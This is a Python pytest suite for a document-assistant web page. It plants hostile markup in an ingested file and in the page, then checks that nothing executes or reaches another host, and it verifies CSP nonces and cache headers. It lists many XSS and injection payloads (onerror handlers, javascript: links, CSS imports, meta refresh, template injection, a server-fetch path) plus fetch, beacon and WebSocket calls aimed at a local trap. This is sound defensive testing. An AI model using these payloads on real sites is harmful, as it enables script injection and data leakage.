"""Hostile documents and markup in the page: nothing runs, nothing reaches out."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING

import httpx
import pytest
import safehttpx

from ingest import ingest
from rag import open_assistant, open_collection, read_settings
from tests.ui.conftest import served, visit
from ui.page.first_page import mended

if TYPE_CHECKING:
    from playwright.sync_api import Browser


class Trap(BaseHTTPRequestHandler):
    """Another host, as far as the browser is concerned; it notes who comes."""

    def do_GET(self) -> None:
        self.server.visitors.append(self.path)  # type: ignore[attr-defined]
        self.send_response(204)
        self.end_headers()

    def do_POST(self) -> None:
        self.do_GET()

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def trap() -> Iterator[ThreadingHTTPServer]:
    server = ThreadingHTTPServer(("localhost", 0), Trap)
    server.visitors = []  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


def planted(elsewhere: str) -> str:
    """A resolution in which everything tries to run, or to reach another host."""
    attacks = [
        f"![图]({elsewhere}/markdown)",
        f"<img src={elsewhere}/image onerror=window.ran=1>",
        f"<script src={elsewhere}/script></script><script>window.ran=2</script>",
        f"<style>@import url({elsewhere}/import);*{{background:url({elsewhere}/css)}}</style>",
        f"<div style='background:url({elsewhere}/inline)'>甲</div><link rel=stylesheet href={elsewhere}/link>",
        "<a href='javascript:window.ran=3'>乙</a>[丙](javascript:window.ran=4)<svg onload=window.ran=5>",
        f"<iframe src={elsewhere}/frame></iframe><form action={elsewhere}/form><button>丁</button></form>",
        f"<meta http-equiv=refresh content='0;url={elsewhere}/refresh'><base href={elsewhere}/>",
        "${window.ran=6}{{constructor.constructor('window.ran=7')()}}{@html '<img onerror=window.ran=8 src=x>'}",
        f'<img src="/gradio_api/file={elsewhere}/through-the-server">',
    ]
    paragraphs = "\n\n".join(f"{number}. 注意到植入段落 {attack}；" for number, attack in enumerate(attacks, start=1))
    return f"联合国  A/RES/99/1\n\n大会\n\n大会决议\n\n99/1. 植入 {attacks[0]} {attacks[1]}\n\n大会，\n\n{paragraphs}\n"


def test_nothing_of_a_planted_document_runs_or_reaches_out(
    browser: Browser, trap: ThreadingHTTPServer, tmp_path: Path
) -> None:
    """From the file to every place where the page shows it: name, title, list, answer, source, whole document."""
    elsewhere = f"http://localhost:{trap.server_port}"
    file = tmp_path / "texts" / f"<img src={elsewhere.replace('/', '')} onerror=window.ran=9> ![x](http:x).txt"
    file.parent.mkdir()
    file.write_text(planted(elsewhere), encoding="utf-8")
    settings = read_settings(home=tmp_path / "home")
    with open_collection(settings) as collection:
        assert not ingest(collection, [file.parent]).failed
    with open_assistant(settings) as assistant, served(assistant) as url, visit(browser, url) as visitor:
        page = visitor.page
        visitor.ask("A/RES/99/1号决议第2段说了什么？")
        assert page.locator("#pc-current .pc-cite").count() >= 1
        page.locator("#pc-current .pc-cite").first.click()
        page.locator("#pc-panel .pc-card .pc-open").first.click()
        page.locator("#pc-panel .pc-paragraph").first.wait_for()
        shown = page.locator("#pc-panel").inner_text()
        for tag in ("<script", "<iframe", "![图]", "{{constructor", "onerror=window.ran=9"):
            assert tag in shown  # as text, every character of it
        visitor.ask(planted(elsewhere)[:1500])
        page.click("[data-action=library]")
        page.wait_for_timeout(300)  # an image or a refresh would need a moment
        assert page.evaluate("window.ran") is None
        assert page.url.startswith(url)
    assert trap.visitors == []  # type: ignore[attr-defined]


INSERTED = """async (elsewhere) => {
  const place = document.createElement("div");
  document.body.append(place);
  place.innerHTML = `<img src="x" onerror="window.ran=1"><img src="${elsewhere}/image"><svg onload="window.ran=2"></svg>
    <a id="planted" href="javascript:window.ran=3">x</a><div style="background:url(${elsewhere}/css)">x</div>
    <iframe src="${elsewhere}/frame"></iframe><link rel="stylesheet" href="${elsewhere}/link">
    <video poster="${elsewhere}/poster"></video><object data="${elsewhere}/object"></object>
    <img src="/gradio_api/file=${elsewhere}/server"><img src="/gradio_api/proxy=${elsewhere}/proxy">`;
  document.getElementById("planted").click();
  for (const text of ["window.ran=4", ""]) {
    const script = document.createElement("script");
    if (text) script.textContent = text; else script.src = `${elsewhere}/script`;
    document.head.append(script);
  }
  await fetch(`${elsewhere}/fetch`).catch(() => {});
  navigator.sendBeacon(`${elsewhere}/beacon`, "x");
  try { new WebSocket(elsewhere.replace("http", "ws")); } catch {}
  await new Promise(done => setTimeout(done, 400));
}"""


def test_even_markup_that_came_through_would_neither_run_nor_reach_out(
    browser: Browser, trap: ThreadingHTTPServer, fake_page: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The second wall: everything above, put into the live page on purpose. The browser refuses, and so does the server."""
    fetched: list[str] = []
    monkeypatch.setattr(safehttpx, "get", lambda url, **_: fetched.append(url))
    with visit(browser, fake_page) as visitor:
        visitor.page.evaluate(INSERTED, f"http://localhost:{trap.server_port}")
        assert visitor.page.evaluate("window.ran") is None
        assert len(visitor.complaints) >= 8
        visitor.complaints.clear()
        visitor.elsewhere.clear()  # what the browser was asked for, and refused
    assert trap.visitors == []  # type: ignore[attr-defined]
    assert fetched == []


def test_the_first_page_carries_no_name_of_another_site_and_a_new_nonce_each_time(fake_page: str) -> None:
    first, second = httpx.get(fake_page), httpx.get(fake_page)
    assert first.headers["content-security-policy"] != second.headers["content-security-policy"]
    assert (
        "'unsafe-inline'" not in first.headers["content-security-policy"].partition("script-src")[2].partition(";")[0]
    )
    assert "frame-ancestors 'none'" in first.headers["content-security-policy"]
    assert "gradio.app" not in first.text.partition("window.gradio_config")[0]
    (nonce,) = {each.partition('"')[0] for each in first.text.split('nonce="')[1:]}
    assert f"'nonce-{nonce}'" in first.headers["content-security-policy"]
    assert first.text.count("<script") == first.text.count(f'<script nonce="{nonce}"')


def test_what_never_changes_is_asked_for_once(fake_page: str) -> None:
    page = httpx.get(fake_page)
    script = page.text.partition('src="./assets/')[2].partition('"')[0]
    assert "immutable" in httpx.get(f"{fake_page}/assets/{script}").headers["cache-control"]
    assert "immutable" not in httpx.get(f"{fake_page}/assets/nothing.js").headers.get("cache-control", "")
    assert page.headers["cache-control"] == "no-store"


def test_a_script_that_is_only_spoken_of_gets_no_nonce() -> None:
    data = json.dumps("<script>x</script>").replace("<", "\\u003c")
    assert data in mended(f"<meta charset='utf-8'><script>a = {data}</script>", head="", nonce="n")
